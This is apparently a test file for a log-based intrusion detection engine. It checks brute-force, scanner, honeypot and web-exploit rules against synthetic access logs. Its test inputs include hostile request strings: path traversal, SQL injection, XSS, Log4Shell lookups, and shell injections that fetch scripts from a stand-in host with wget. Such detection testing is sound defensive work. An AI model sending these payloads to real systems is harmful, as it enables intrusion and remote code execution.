import { describe, expect, it } from 'vitest';
import { loadRules } from '../../src/app/index.ts';
import type { Detection, SecurityEvent } from '../../src/core/index.ts';
import { createDetectionEngine } from '../../src/detection/index.ts';
import { accessLogParser, cowrieParser } from '../../src/parsers/index.ts';
import type { ParserDefinition } from '../../src/parsers/index.ts';

const rules = await loadRules(undefined);
const DAY = Date.UTC(2024, 2, 4);
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

function opened(parser: ParserDefinition, lines: string[]): Detection[] {
  const events: SecurityEvent[] = [];
  const instance = parser.create({});
  for (const line of lines)
    expect(
      instance.parseLine(line, (event) => events.push(event)),
      line,
    ).toBeNull();
  events.sort((a, b) => a['@timestamp'].localeCompare(b['@timestamp']));
  const detections: Detection[] = [];
  const engine = createDetectionEngine({ rules, emit: (d) => d.state === 'opened' && detections.push(d) });
  engine.pushBatch(events);
  engine.flush();
  return detections;
}

/** A small deterministic generator (mulberry32), so the benign day is the same on every run. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function clf(ms: number): string {
  const d = new Date(ms);
  const pad = (n: number) => String(n).padStart(2, '0');
  return `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
}

function access(
  ms: number,
  ip: string,
  request: string,
  status: number,
  user = '-',
  agent = 'Mozilla/5.0 (test)',
): string {
  return `${ip} - ${user} [${clf(ms)}] "${request}" ${status} ${status === 304 ? 0 : 5120} "https://shop.example.org/" "${agent}"`;
}

const PAGES = [
  '/',
  '/products',
  '/products/42',
  '/cart',
  '/static/app.js',
  '/static/site.css',
  '/search?q=lamp',
];

/**
 * A normal day: 300 visitors (a third of them behind one office NAT address), each browsing 20–80
 * pages with 200/304 answers and an occasional 404; a third of them log in (POST /login, 302 on
 * success, now and then a mistyped password answered 401 first); the admin area behind HTTP basic
 * auth, where the browser's first request is answered 401 without a user and alice mistypes twice.
 */
function benignDay(): string[] {
  const next = random(42);
  const lines: string[] = [];
  for (let visitor = 0; visitor < 300; visitor++) {
    const ip = visitor % 3 === 0 ? '192.0.2.10' : `198.51.100.${(visitor % 250) + 1}`;
    let time = DAY + Math.floor(next() * 20 * 3_600_000);
    const pages = 20 + Math.floor(next() * 60);
    for (let page = 0; page < pages; page++) {
      time += 1_000 + Math.floor(next() * 30_000);
      const roll = next();
      const path = PAGES[Math.floor(next() * PAGES.length)] as string;
      lines.push(
        access(
          time,
          ip,
          `GET ${roll < 0.03 ? '/old-page' : path} HTTP/1.1`,
          roll < 0.03 ? 404 : roll < 0.3 ? 304 : 200,
        ),
      );
    }
    if (visitor % 3 === 1) {
      if (next() < 0.2) lines.push(access(time + 2_000, ip, 'POST /login HTTP/1.1', 401));
      lines.push(access(time + 9_000, ip, 'POST /login HTTP/1.1', 302));
    }
  }
  lines.push(access(DAY + 36_000_000, '192.0.2.10', 'GET /admin/ HTTP/1.1', 401));
  lines.push(access(DAY + 36_005_000, '192.0.2.10', 'GET /admin/ HTTP/1.1', 401, 'alice'));
  lines.push(access(DAY + 36_010_000, '192.0.2.10', 'GET /admin/ HTTP/1.1', 401, 'alice'));
  lines.push(access(DAY + 36_015_000, '192.0.2.10', 'GET /admin/ HTTP/1.1', 200, 'alice'));
  return lines;
}

const ATTACKER = '203.0.113.200';
/** 200 POSTs to wp-login.php, one every 1.5 s from 13:00, answered `status`. */
const wpLoginBruteForce = (status: number) =>
  Array.from({ length: 200 }, (_, i) =>
    access(DAY + 13 * 3_600_000 + i * 1_500, ATTACKER, 'POST /wp-login.php HTTP/1.1', status),
  );

describe('web access-log rules', () => {
  const day = benignDay();

  it(`stay quiet on a normal day of traffic (${day.length} requests)`, () => {
    expect(day.length).toBeGreaterThan(10_000);
    expect(opened(accessLogParser, day).map((d) => [d.ruleId, d.group])).toEqual([]);
  });

  it('see refused WordPress logins in a wp-login.php brute force answered 200, and its flood of login POSTs', () => {
    const detections = opened(accessLogParser, [...day, ...wpLoginBruteForce(200)]);
    // The flood is muted by the refused logins (a default inhibition) where incidents notify.
    expect(detections.map((d) => [d.ruleId, d.group])).toEqual([
      ['wordpress-login-failures-source', { 'source.ip': ATTACKER }],
      ['web-login-flood-source', { 'source.ip': ATTACKER }],
    ]);
  });

  it('count 10 refused WordPress logins in 5 minutes from one address, not 9, nor 10 logins that worked', () => {
    const posts = (count: number, status: number) => wpLoginBruteForce(status).slice(0, count);
    const rules = (lines: string[]) => opened(accessLogParser, lines).map((d) => d.ruleId);
    expect(rules(posts(10, 200))).toEqual(['wordpress-login-failures-source']);
    expect(rules(posts(9, 200))).toEqual([]);
    expect(rules(posts(10, 302))).toEqual([]);
  });

  it('open one incident naming the address when the failed logins are answered 401', () => {
    const detections = opened(accessLogParser, [...day, ...wpLoginBruteForce(401)]);
    expect(detections.map((d) => [d.ruleId, d.group])).toEqual([
      ['web-login-failures-source', { 'source.ip': ATTACKER }],
    ]);
  });

  it('see a burst of 403s from a scanner, and wrong basic-auth passwords for one account', () => {
    const scan = Array.from({ length: 40 }, (_, i) =>
      access(DAY + 14 * 3_600_000 + i * 2_000, '203.0.113.201', `GET /.git/config${i} HTTP/1.1`, 403),
    );
    const guesses = Array.from({ length: 12 }, (_, i) =>
      access(DAY + 15 * 3_600_000 + i * 20_000, `203.0.113.${10 + i}`, 'GET /admin/ HTTP/1.1', 401, 'bob'),
    );
    const detections = opened(accessLogParser, [...day, ...scan, ...guesses]);
    expect(detections.map((d) => [d.ruleId, d.group])).toEqual([
      ['web-auth-failures-source', { 'source.ip': '203.0.113.201' }],
      ['web-auth-failures-user', { 'user.name': 'bob' }],
    ]);
  });
});

const AT = DAY + 16 * 3_600_000;
/** The rules one request opens, over the benign day. */
const openedBy = (day: string[], request: string, status = 404, agent?: string) =>
  opened(accessLogParser, [...day, access(AT, '203.0.113.77', request, status, '-', agent)]).map(
    (d) => d.ruleId,
  );

describe('web attack rules', () => {
  const day = benignDay();

  it.each([
    'GET /../../../../etc/passwd HTTP/1.1',
    'GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1',
    'GET /static/..%2f..%2f..%2fwindows/win.ini HTTP/1.1',
    'GET /products?id=1%20UNION%20ALL%20SELECT%20NULL,NULL-- HTTP/1.1',
    "GET /products?id=1'+or+1=1-- HTTP/1.1",
    'GET /products?id=1%27%20AND%201%3D1 HTTP/1.1',
    'GET /search?q=1)%20AND%20SLEEP(5)-- HTTP/1.1',
    'GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1',
    'GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1',
    'GET /?x=%24%7Bjndi:ldap://198.51.100.9/a%7D HTTP/1.1',
    'GET /shell?cd+/tmp;wget+http://198.51.100.9/m.sh HTTP/1.0',
    'GET /cgi-bin/;cd${IFS}/tmp;curl${IFS}-O${IFS}http://x HTTP/1.1',
    'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1',
    'POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1',
    'GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array HTTP/1.1',
  ])('sees an exploit attempt in %s', (request) => {
    expect(openedBy(day, request)).toEqual(['web-exploit-attempt']);
  });

  it.each([
    'GET /blog/union-select-guide HTTP/1.1',
    "GET /search?q=o'reilly+and+sons HTTP/1.1",
    'GET /search?q=sleep+apnea HTTP/1.1',
    'GET /products?sort=price&order=desc HTTP/1.1',
    'GET /docs/shell-scripting HTTP/1.1',
    'GET /static/app.min.js?v=2.1.0 HTTP/1.1',
  ])('leaves an ordinary request alone: %s', (request) => {
    expect(openedBy(day, request, 200)).toEqual([]);
  });

  it.each([
    ['${jndi:ldap://198.51.100.9:1389/Basic/Command/whoami}', 'web-exploit-user-agent'],
    ['() { :; }; /bin/bash -c "wget http://198.51.100.9/x"', 'web-exploit-user-agent'],
    ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'web-scanner-user-agent'],
    ['Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)', 'web-scanner-user-agent'],
    [
      'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      'web-scanner-user-agent',
    ],
  ])('reads the User-Agent %s', (agent, rule) => {
    expect(openedBy(day, 'GET / HTTP/1.1', 200, agent)).toEqual([rule]);
  });

  it('sees a secret file answered 200, not one answered 404', () => {
    expect(openedBy(day, 'GET /.env HTTP/1.1', 200)).toEqual(['web-sensitive-file-served']);
    expect(openedBy(day, 'GET /.git/config HTTP/1.1', 200)).toEqual(['web-sensitive-file-served']);
    expect(openedBy(day, 'GET /.env HTTP/1.1', 404)).toEqual([]);
    expect(openedBy(day, 'GET /environment HTTP/1.1', 200)).toEqual([]);
  });

  it('sees a wordlist scan: 30 distinct missing paths in 5 min, not 29', () => {
    const scan = (paths: number) =>
      Array.from({ length: paths }, (_, i) =>
        access(AT + i * 5_000, '203.0.113.78', `GET /wordlist-${i}.php HTTP/1.1`, 404),
      );
    expect(opened(accessLogParser, [...day, ...scan(30)]).map((d) => [d.ruleId, d.group])).toEqual([
      ['web-content-scan-source', { 'source.ip': '203.0.113.78' }],
    ]);
    expect(opened(accessLogParser, [...day, ...scan(29)])).toEqual([]);
  });
});

const cowrie = (second: number, ip: string, eventid: string, user?: string) =>
  JSON.stringify({
    eventid,
    src_ip: ip,
    session: `s-${ip}-${second}`,
    sensor: 'hp-1',
    timestamp: new Date(DAY + second * 1000).toISOString(),
    ...(user && { username: user, password: `pw${second}` }),
  });

describe('Cowrie rules', () => {
  it('brute force per address: 12 guesses on 3 accounts opens one incident; 3 guesses nothing', () => {
    const lines = [
      ...Array.from({ length: 12 }, (_, i) =>
        cowrie(i * 5, '203.0.113.50', 'cowrie.login.failed', ['root', 'admin', 'pi'][i % 3]),
      ),
      ...Array.from({ length: 3 }, (_, i) => cowrie(i * 5, '203.0.113.51', 'cowrie.login.failed', 'root')),
    ];
    expect(opened(cowrieParser, lines).map((d) => [d.ruleId, d.group])).toEqual([
      ['cowrie-brute-force-source', { 'source.ip': '203.0.113.50' }],
    ]);
  });

  it('credential spraying per address: 8 accounts once each (under the brute-force threshold)', () => {
    const users = ['root', 'admin', 'ubuntu', 'pi', 'oracle', 'test', 'git', 'postgres'];
    const lines = [
      cowrie(0, '203.0.113.60', 'cowrie.session.connect'),
      ...users.map((user, i) => cowrie(10 + i * 20, '203.0.113.60', 'cowrie.login.failed', user)),
      cowrie(200, '203.0.113.60', 'cowrie.session.closed'),
    ];
    const detections = opened(cowrieParser, lines);
    expect(detections.map((d) => [d.ruleId, d.group])).toEqual([
      ['cowrie-credential-spray-source', { 'source.ip': '203.0.113.60' }],
    ]);
    expect(JSON.stringify(detections)).not.toContain('pw10');
  });
});
